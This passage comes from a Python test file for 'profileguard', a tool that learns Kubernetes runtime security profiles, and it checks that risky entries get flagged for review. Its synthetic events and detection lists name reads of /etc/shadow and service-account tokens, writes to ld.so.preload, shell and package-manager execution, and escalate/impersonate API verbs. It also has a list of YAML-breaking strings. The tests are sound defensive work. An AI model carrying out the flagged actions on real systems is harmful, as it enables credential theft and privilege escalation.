            self.assertFalse(self.judge(prof, path), path)
        # /etc without a dangerous file seen is not folded either: /etc/*
        # would reach /etc/shadow unseen
        profile, prof = self.files(["/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf"])
        self.assertIn("        - /etc/hosts\n        - /etc/nsswitch.conf\n        - /etc/resolv.conf\n", profile)
        self.assertFalse(self.judge(prof, "/etc/shadow"))
        # nor written system directories, nor the root
        profile, prof = self.files([], ["/etc/app/a", "/etc/app/b", "/etc/app/c", "/a", "/b", "/c"])
        self.assertIn("0 directories generalised", profile)
        self.assertFalse(self.judge(prof, "/etc/app/d", write=True))

    def test_review_comments_on_each_kind(self):
        web = {"namespace": "payments", "name": "web"}
        lines = [native("open", path=p, write=False, pod=web) for p in
                 ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/sudoers.d/app", "/root/.ssh/authorized_keys",
                  "/srv/tls.key", "/srv/cert.pem", "/var/run/secrets/kubernetes.io/serviceaccount/token",
                  "/proc/1/mem", "/proc/self/environ", "/etc/passwd", "/etc/hosts")]
        lines += [native("open", path=p, write=True, pod=web) for p in ("/etc/passwd", "/etc/group", "/etc/ld.so.preload",
                                                                     "/usr/local/bin/x", "/tmp/ok")]
        lines += [native("exec", exe=e, pod=web) for e in
                  ("/bin/sh", "/bin/bash", "/bin/dash", "/usr/bin/zsh", "/bin/ash", "/bin/busybox", "/usr/bin/apt",
                   "/usr/bin/apt-get", "/usr/bin/dpkg", "/sbin/apk", "/usr/bin/yum", "/usr/bin/dnf", "/usr/bin/rpm",
                   "/usr/local/bin/pip", "/usr/bin/pip3", "/usr/bin/npm", "/usr/bin/gem", "/app/server", "/usr/bin/shasum")]
        pod = self.path("web.yaml", pod_with("app:1.0").replace("spec: {", "spec: {serviceAccountName: payments-api, "))
        ev = self.path("danger.jsonl", "\n".join(lines) + "\n")
        api = self.path("danger-audit.json", json.dumps({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": [
            audit("get", "secrets", name="db-password"), audit("create", "pods", subresource="exec", name="other"),
            audit("bind", "clusterroles", name="admin", group="rbac.authorization.k8s.io"),
            audit("escalate", "roles", name="r", group="rbac.authorization.k8s.io"),
            audit("impersonate", "serviceaccounts", name="admin"),
            audit("get", "configmaps", name="cfg")]}))
        rc, profile, err = run("learn", "-f", ev, "-f", api, "--pod", pod, "--name", "web", "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        def line(item):
            return [l for l in profile.splitlines() if l.strip().startswith("- ") and l.split("#")[0].strip()[2:].strip('"') == item]
        for item in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/sudoers.d/app", "/root/.ssh/authorized_keys",
                     "/srv/tls.key", "/srv/cert.pem", "/var/run/secrets/kubernetes.io/serviceaccount/token",
                     "/proc/1/mem", "/proc/self/environ", "/etc/passwd", "/etc/group", "/etc/ld.so.preload",
                     "/usr/local/bin/x", "/bin/sh", "/bin/bash", "/bin/dash", "/usr/bin/zsh", "/bin/ash", "/bin/busybox",
                     "/usr/bin/apt", "/usr/bin/apt-get", "/usr/bin/dpkg", "/sbin/apk", "/usr/bin/yum", "/usr/bin/dnf",
                     "/usr/bin/rpm", "/usr/local/bin/pip", "/usr/bin/pip3", "/usr/bin/npm", "/usr/bin/gem"):
            with self.subTest(item=item):
                self.assertEqual(len(line(item)), 1, profile)
                self.assertIn("  # review: ", line(item)[0])
        for item in ("/etc/hosts", "/tmp/ok", "/app/server", "/usr/bin/shasum"):
            self.assertEqual(len(line(item)), 1, item)
            self.assertNotIn("#", line(item)[0])
        self.assertIn("        - /etc/passwd  # review: write to the user database\n", profile)
        self.assertIn("      - /usr/bin/gem  # review: a package manager\n", profile)
        # API calls: a comment above the rule, for each reason; a verb no
        # profile can list (bind, escalate, impersonate) is left out, and said
        for want in ('      # review: Secrets: credentials: "get secrets"\n      - verbs: [get]\n        resources: [secrets]\n',
                     '      # review: runs commands in pods (pods/exec): "create pods/exec"\n      - verbs: [create]\n',
                     '    # review: left out, a profile cannot list this verb: "bind rbac.authorization.k8s.io/clusterroles": '
                     'grants roles it does not hold (bind)\n',
                     '    # review: left out, a profile cannot list this verb: "escalate rbac.authorization.k8s.io/roles": '
                     'raises a role\'s permissions (escalate)\n',
                     '    # review: left out, a profile cannot list this verb: "impersonate serviceaccounts": '
                     'acts as another user or account (impersonate)\n'):
            self.assertIn(want, profile)
        for verb in ("bind", "escalate", "impersonate"):
            self.assertNotIn("verbs: [%s]" % verb, profile)
        self.assertIn("    kubernetesAPI:\n      - verbs: [get]\n        resources: [configmaps]\n", profile)   # no comment
        n = profile.count("# review: ")   # the header says "# review:" without a space
        self.assertEqual(n, 36)
        self.assertIn("# 36 entries need review (marked \"# review:\").\n", profile)
        self.assertIn('36 entries marked "# review:" in the profile', err)
        # JSON has no comments: the same list is on stderr, one warning each
        rc, out, err = run("learn", "-f", ev, "-f", api, "--pod", pod, "--name", "web", "--namespace", "payments", "-o", "json")
        self.assertEqual(rc, 0, err)
        doc = json.loads(out)
        self.assertIn("/etc/shadow", doc["spec"]["runtime"]["files"]["read"])
        warnings = [l for l in err.splitlines() if "warning: review" in l]
        self.assertEqual(len(warnings), 36, err)
        self.assertIn('profileguard learn: warning: review runtime.files.read "/etc/shadow": credential file: password hashes', warnings)
        self.assertIn('profileguard learn: warning: review runtime.executables "/bin/sh": a shell', warnings)
        self.assertIn('profileguard learn: warning: review runtime.kubernetesAPI "create pods/exec": runs commands in pods (pods/exec)', warnings)
        # the profile learned is valid and passes the pod; it allows what it
        # marked, and the calls it had to leave out are findings
        rc, out, err = run("check", "-p", self.path("p.yaml", profile), "-f", pod, "--events", ev, "--events", api)
        self.assertEqual(rc, 0, out + err)
        self.assertIn("42 events judged: 3 findings (0 Enforce)", out)
        for verb in ("bind", "escalate", "impersonate"):
            self.assertIn('": %s ' % verb, out)

    def test_hostile_strings_round_trip(self):
        # learn writes YAML by hand: each string must read back as itself.
        # -o json is that YAML read back by the YAML 1.1 reader check and
        # the webhook use; check --events then judges the same events by it.
        hostile = ["a: b", "a #b", "#c", "*star", "&anchor", "!tag", "-dash", "- item", "? key", '"dq"', "'sq'",
                   "back\\slash", "new\nline", "tab\there", "cr\rx", "unicodé ✓ 日本", "nel\u0085x", "ls\u2028ps\u2029",
                   "bom\ufeff", "yes", "no", "Yes", "NO", "on", "off", "y", "n", "null", "Null", "~", "true", "False",
                   "123", "0x1F", "0o17", "017", "1e3", "1_000", ".inf", "-.inf", ".nan", "+1", "12:30", "2026-01-01",
                   "[flow]", "{map}", "%pct", "@at", "`tick", "|pipe", ">gt", "<<", "=", ",comma", " lead", "trail ",
                   "", "a\x01b", "del\x7f", "%", "!", "&", "*", "-", "?", ":", "---", "..."]
        web = {"namespace": "payments", "name": "web"}
        exes = ["/bin/" + h for h in hostile if h]
        lines = [native("exec", exe=e, pod=web) for e in exes]
        lines += [native("open", path="/d%d/%s" % (i, h), write=bool(i % 2), pod=web) for i, h in enumerate(hostile)]
        pod = self.path("web.yaml", pod_with("app:1.0").replace("spec: {", "spec: {serviceAccountName: payments-api, "))
        ev = self.path("hostile.jsonl", "\n".join(lines) + "\n")
        api = self.path("hostile-audit.json", json.dumps({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": [
            audit("get", "configmaps", name=h) for h in hostile if h]}))
        for extra in ([], ["--exact"]):
            with self.subTest(extra=extra):
                args = ["learn", "-f", ev, "-f", api, "--pod", pod, "--name", "web", "--namespace", "payments", *extra]
                rc, yaml_out, err = run(*args)
                self.assertEqual(rc, 0, err)
                rc, out, err = run(*args, "-o", "json")
                self.assertEqual(rc, 0, err)
                rt = json.loads(out)["spec"]["runtime"]
                self.assertCountEqual(rt["executables"], exes)
                files = {"/d%d/%s" % (i, h): bool(i % 2) for i, h in enumerate(hostile)}
                self.assertCountEqual(rt["files"]["read"], [p for p, w in files.items() if not w])
                self.assertCountEqual(rt["files"]["write"], [p for p, w in files.items() if w])
                self.assertCountEqual(rt["kubernetesAPI"][0]["resourceNames"], [h for h in hostile if h])
                # comments hold no line break: every line but the scalars' is YAML structure or a comment
                for l in yaml_out.splitlines():
                    self.assertRegex(l, r'^(#|\s*#|\s*- |\s*[A-Za-z"]|\s*$)', l)
                prof = self.path("hostile-profile.yaml", yaml_out)
                rc, out, err = run("check", "-p", prof, "-f", pod, "--events", ev, "--events", api)
                self.assertEqual(rc, 0, out + err)
                self.assertIn("0 findings", out)


if __name__ == "__main__":
    unittest.main(verbosity=2)
